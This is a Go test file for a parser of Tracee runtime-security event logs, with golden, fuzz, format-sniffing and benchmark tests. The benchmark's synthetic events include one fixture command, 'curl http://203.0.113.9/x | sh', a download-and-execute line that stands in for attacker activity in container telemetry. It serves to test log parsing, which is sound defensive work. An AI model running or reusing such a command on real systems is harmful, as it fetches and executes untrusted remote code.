package tracee

import (
	"bytes"
	"fmt"
	"testing"

	"amber/timeline/source/sourcetest"
)

func TestGolden(t *testing.T) { sourcetest.Golden(t, Source{}, "testdata") }

func FuzzRead(f *testing.F) { sourcetest.Fuzz(f, Source{}, "testdata") }

func TestSniffOthers(t *testing.T) {
	for _, head := range []string{"", "{}", "[]", "text", `{"kind":"Event","apiVersion":"audit.k8s.io/v1","auditID":"x"}`, `{"logName":"x","jsonPayload":{"rule":1}}`, `{"name":"x","data":{},"timestamp":"y"}`} {
		if n := (Source{}).Sniff([]byte(head), ""); n > 0 {
			t.Errorf("%q: %d", head, n)
		}
	}
}

func BenchmarkParse(b *testing.B) {
	var log bytes.Buffer
	for i := range 5_000 {
		fmt.Fprintf(&log, `{"timestamp":%d,"threadStartTime":1795352701000000000,"processorId":9,"processId":7,"cgroupId":5247,"threadId":7,"parentProcessId":1,"hostProcessId":%d,"hostThreadId":4242,"hostParentProcessId":%d,"userId":0,"mountNamespace":4026532231,"pidNamespace":4026532234,"processName":"sh","executable":{"path":"/bin/busybox"},"hostName":"web-1","containerId":"0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef","container":{"id":"0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef","name":"app","image":"docker.io/library/nginx:1.29","imageDigest":"sha256:abc"},"kubernetes":{"podName":"web-1","podNamespace":"shop","podUID":"7c5a8b1e-0000-4000-8000-000000000001","podSandbox":false},"eventId":"715","eventName":"sched_process_exec","matchedPolicies":["ir"],"argsNum":5,"returnValue":0,"syscall":"execve","stackAddresses":null,"contextFlags":{"containerStarted":true,"isCompat":false},"threadEntityId":1,"processEntityId":2,"parentEntityId":3,"args":[{"name":"cmdpath","type":"const char*","value":"/bin/sh"},{"name":"pathname","type":"const char*","value":"/bin/busybox"},{"name":"argv","type":"const char**","value":["sh","-c","curl http://203.0.113.9/x | sh"]},{"name":"sha256","type":"const char*","value":"abababababababababababababababababababababababababababababababab"},{"name":"cwd","type":"const char*","value":"/tmp"}],"metadata":null}`+"\n", 1795352701123456789+i, i, i)
	}
	sourcetest.Bench(b, Source{}, log.Bytes(), nil)
}
